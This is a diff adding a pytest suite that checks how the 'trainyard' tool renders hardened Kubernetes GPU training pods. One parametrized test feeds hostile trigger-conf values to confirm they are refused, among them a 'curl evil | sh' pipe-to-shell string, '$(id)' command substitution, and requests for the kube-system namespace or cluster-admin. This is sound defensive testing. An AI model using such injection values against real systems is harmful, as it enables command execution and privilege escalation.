@@ -1,0 +1,262 @@
+"""The training pod, as `trainyard render` prints it: valid, hardened, and derived from YAML only."""
+
+from __future__ import annotations
+
+import json
+
+import kubernetes_validate
+import pytest
+import yaml
+
+from trainyard.cli.main import main as cli
+from trainyard.cli.render import render_pod
+from trainyard.config.loading import available_environments, load_environment, load_pipeline
+from trainyard.validate.trigger_conf import ConfRejected
+
+KUBERNETES_ENVS = ("dev", "prod")
+
+
+def _pipeline(config_dirs, env: str):
+    pipelines, environments = config_dirs
+    return load_pipeline(
+        pipelines / "tweet-sentiment.yaml",
+        load_environment(env, environments),
+        available_environments(environments),
+    )
+
+
+def _container(pod: dict) -> dict:
+    (container,) = pod["spec"]["containers"]
+    return container
+
+
+def _run_spec(pod: dict) -> dict:
+    args = _container(pod)["args"]
+    return json.loads(args[args.index("--spec") + 1])
+
+
+@pytest.mark.parametrize("env", KUBERNETES_ENVS)
+def test_manifest_is_schema_valid_in_strict_mode(config_dirs, env):
+    pod = render_pod(_pipeline(config_dirs, env))
+    kubernetes_validate.validate(pod, kubernetes_validate.latest_version(), strict=True)
+
+
+@pytest.mark.parametrize("env", KUBERNETES_ENVS)
+def test_pod_requests_gpus_under_the_priority_class_with_hardening(config_dirs, env):
+    pipeline = _pipeline(config_dirs, env)
+    k8s = pipeline.environment.kubernetes
+    pod = render_pod(pipeline, run_id="scheduled__2026-11-26T03:00:00+00:00")
+    spec, container = pod["spec"], _container(pod)
+
+    assert pod["metadata"]["namespace"] == k8s.namespace
+    assert spec["priorityClassName"] == k8s.priority_class
+    assert spec["serviceAccountName"] == "trainyard-trainer"
+    assert spec["automountServiceAccountToken"] is False
+    assert container["image"] == "ghcr.io/trainyard/trainer:0.1.0"
+    resources = container["resources"]
+    assert (
+        resources["requests"] == resources["limits"] == {"cpu": "4", "memory": "16Gi", "nvidia.com/gpu": "1"}
+    )
+    assert spec["nodeSelector"] == {"nvidia.com/gpu.product": "NVIDIA-A100-SXM4-80GB"}
+    assert spec["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
+    assert spec["restartPolicy"] == "Never"
+
+    assert spec["securityContext"] == {
+        "runAsNonRoot": True,
+        "runAsUser": 1000,
+        "runAsGroup": 1000,
+        "fsGroup": 1000,
+        "seccompProfile": {"type": "RuntimeDefault"},
+    }
+    assert container["securityContext"] == {
+        "allowPrivilegeEscalation": False,
+        "capabilities": {"drop": ["ALL"]},
+        "readOnlyRootFilesystem": True,
+        "runAsNonRoot": True,
+    }
+    shm = next(v for v in spec["volumes"] if v["name"] == "dshm")
+    assert shm["emptyDir"] == {"medium": "Memory", "sizeLimit": "2Gi"}
+    mounts = {m["mountPath"] for m in container["volumeMounts"]}
+    assert {"/dev/shm", "/tmp", "/cache", "/scratch"} <= mounts, "writable places on a read-only root"
+
+    assert spec["terminationGracePeriodSeconds"] == 300, "time to checkpoint on SIGTERM"
+    timeout_minutes = pipeline.environment.airflow.execution_timeout_minutes
+    assert spec["activeDeadlineSeconds"] == timeout_minutes * 60
+
+    labels = pod["metadata"]["labels"]
+    assert labels["trainyard.io/pipeline"] == "tweet-sentiment"
+    assert labels["trainyard.io/team"] == "nlp"
+    assert labels["trainyard.io/environment"] == env
+    assert labels["trainyard.io/dag-run"] == "scheduled__2026-11-26T03_00_00_00_00"
+
+    assert container["command"] == ["python"]
+    assert container["args"][:3] == ["-m", "trainer", "--spec"]
+    run_spec = _run_spec(pod)
+    assert run_spec["identity"]["environment"] == env
+    assert run_spec["checkpoint_dir"].startswith(f"s3://trainyard-{env}-checkpoints/tweet-sentiment/")
+
+
+def test_secrets_are_references_never_values(config_dirs):
+    pod = render_pod(_pipeline(config_dirs, "prod"))
+    container = _container(pod)
+    assert container["envFrom"] == [{"secretRef": {"name": "trainyard-s3-credentials"}}]
+    references = [e for e in container["env"] if "valueFrom" in e]
+    assert references == [
+        {
+            "name": "MLFLOW_TRACKING_TOKEN",
+            "valueFrom": {"secretKeyRef": {"name": "trainyard-mlflow-credentials", "key": "token"}},
+        }
+    ]
+    literals = {e["name"]: e["value"] for e in container["env"] if "valueFrom" not in e}
+    assert literals == {
+        "PYTHONUNBUFFERED": "1",
+        "TOKENIZERS_PARALLELISM": "false",
+        "HF_HUB_DISABLE_PROGRESS_BARS": "1",
+        "HF_DATASETS_DISABLE_PROGRESS_BARS": "1",
+        "MLFLOW_DISABLE_TELEMETRY": "true",
+        "TRAINYARD_ENV": "prod",
+        "HF_HOME": "/cache/huggingface",
+        "TRAINYARD_SCRATCH": "/scratch",
+    }, "only these settings are literal values: no credential, no AWS_* key"
+    assert len(container["env"]) == len(references) + len(literals), "each name once"
+
+
+def test_dev_and_prod_differ_only_where_their_yaml_differs(config_dirs):
+    dev = render_pod(_pipeline(config_dirs, "dev"))
+    prod = render_pod(_pipeline(config_dirs, "prod"))
+    for pod in (dev, prod):
+        del pod["metadata"]["name"]  # random suffix
+    differences = set()
+
+    def walk(a, b, path=""):
+        if isinstance(a, dict) and isinstance(b, dict):
+            for key in a.keys() | b.keys():
+                walk(a.get(key), b.get(key), f"{path}.{key}")
+        elif isinstance(a, list) and isinstance(b, list) and len(a) == len(b):
+            for i, (x, y) in enumerate(zip(a, b, strict=True)):
+                walk(x, y, f"{path}[{i}]")
+        elif a != b:
+            differences.add(path)
+
+    walk(dev, prod)
+    assert differences == {
+        ".metadata.namespace",
+        ".metadata.labels.trainyard.io/environment",
+        ".spec.priorityClassName",
+        ".spec.activeDeadlineSeconds",
+        ".spec.containers[0].args[3]",  # the run spec: environment, buckets, MLflow, epochs
+        ".spec.containers[0].env[5].value",  # TRAINYARD_ENV
+    }
+    dev_spec, prod_spec = _run_spec(dev), _run_spec(prod)
+    assert dev_spec["hyperparameters"]["epochs"] == 1 and prod_spec["hyperparameters"]["epochs"] == 3
+
+
+def test_more_gpus_run_torchrun_with_one_process_per_gpu(config_dirs):
+    pipelines, _ = config_dirs
+    path = pipelines / "tweet-sentiment.yaml"
+    path.write_text(path.read_text().replace("  gpus: 1", "  gpus: 4"))
+    container = _container(render_pod(_pipeline(config_dirs, "prod")))
+    assert container["command"] == ["torchrun"]
+    assert container["args"][:5] == [
+        "--standalone",
+        "--nproc_per_node=4",
+        "--shutdown-timeout=285",  # terminationGracePeriodSeconds 300, less a margin
+        "-m",
+        "trainer",
+    ]
+    assert container["resources"]["limits"]["nvidia.com/gpu"] == "4"
+
+
+def test_conf_overrides_reach_the_pod_only_as_validated_hyperparameters(config_dirs):
+    pod = render_pod(_pipeline(config_dirs, "prod"), {"learning_rate": 1e-4, "epochs": 2})
+    hp = _run_spec(pod)["hyperparameters"]
+    assert (hp["learning_rate"], hp["epochs"]) == (1e-4, 2)
+
+
+@pytest.mark.parametrize(
+    "conf",
+    [
+        {"image": "attacker/image:1"},
+        {"namespace": "kube-system"},
+        {"priority_class": "system-node-critical"},
+        {"priorityClassName": "system-node-critical"},
+        {"service_account": "cluster-admin"},
+        {"command": ["sh", "-c", "id"]},
+        {"cmds": ["sh"]},
+        {"resources": {"gpus": 64}},
+        {"gpus": 64},
+        {"memory": "2Ti"},
+        {"epochs": "1; curl evil | sh"},
+        {"learning_rate": "$(id)"},
+        {"batch_size": 100000},
+        {"epochs": -1},
+    ],
+)
+def test_every_escalation_through_conf_is_refused(config_dirs, conf):
+    with pytest.raises(ConfRejected, match="Trigger conf rejected"):
+        render_pod(_pipeline(config_dirs, "prod"), conf)
+
+
+def test_render_cli_prints_one_pod_document_and_refuses_bad_conf(config_dirs, capsys):
+    assert cli(["render", "tweet-sentiment", "--env", "dev", "--conf", '{"epochs": 2}']) == 0
+    documents = list(yaml.safe_load_all(capsys.readouterr().out))
+    assert len(documents) == 1 and documents[0]["kind"] == "Pod"
+
+    assert cli(["render", "tweet-sentiment", "--env", "dev", "--conf", '{"gpus": 8}']) == 2
+    assert "'gpus' is not a known setting" in capsys.readouterr().err
+    assert cli(["render", "tweet-sentiment", "--env", "dev", "--conf", "{not json"]) == 2
+    assert "--conf is not valid JSON" in capsys.readouterr().err
+    assert cli(["render", "tweet-sentiment", "--env", "local"]) == 2
+    assert "runs the trainer as a local process" in capsys.readouterr().err
+
+
+def test_jinja_in_yaml_values_is_never_rendered_into_the_pod(config_dirs):
+    """Template fields would let a pipeline author read conf, Variables or Connections into the pod."""
+    from types import SimpleNamespace
+
+    from trainyard.dag import build_dag
+
+    pipelines, _ = config_dirs
+    path = pipelines / "tweet-sentiment.yaml"
+    owner = "{{ dag_run.conf }} {{ var.value.secret }}"
+    path.write_text(path.read_text().replace("owner: nlp-team@example.com", f'owner: "{owner}"'))
+    dag = build_dag(_pipeline(config_dirs, "prod"))
+    task = dag.get_task("train")
+    context = {"dag_run": SimpleNamespace(conf={"evil": 1}, run_id="r"), "var": {"value": {}}}
+    task.render_template_fields(context, jinja_env=dag.get_template_env())
+    assert task.annotations == {"trainyard.io/owner": owner}
+    assert task.template_fields == ()
+
+
+def test_checkpoints_are_keyed_by_run_and_inputs(config_dirs):
+    pipeline = _pipeline(config_dirs, "prod")
+    hp = pipeline.config.training
+    fingerprint_a, fingerprint_b = "sha256:" + "a" * 64, "sha256:" + "b" * 64
+
+    def checkpoint_dir(run_id, fingerprint=fingerprint_a, **changes):
+        return pipeline.run_spec(
+            run_id=run_id,
+            try_number=1,
+            hyperparameters=hp.model_copy(update=changes),
+            dataset_fingerprint=fingerprint,
+        ).checkpoint_dir
+
+    same = checkpoint_dir("manual__1")
+    assert checkpoint_dir("manual__1") == same, "a relaunch finds its checkpoints"
+    assert checkpoint_dir("manual__1", fingerprint_b) != same, "changed data never resumes old weights"
+    assert checkpoint_dir("manual__1", learning_rate=1e-3) != same
+    assert checkpoint_dir("exp:1") != checkpoint_dir("exp/1"), "odd characters do not collide"
+
+
+def test_an_oversized_validation_report_stays_out_of_the_argv(config_dirs):
+    pipeline = _pipeline(config_dirs, "prod")
+    report = {"labels": {f"label-{i}": i for i in range(20_000)}}
+    spec = pipeline.run_spec(
+        run_id="r",
+        try_number=1,
+        hyperparameters=pipeline.config.training,
+        dataset_fingerprint="sha256:" + "a" * 64,
+        validation_report=report,
+    )
+    assert spec.validation_report is None
+    assert len(spec.model_dump_json()) < 64 * 1024
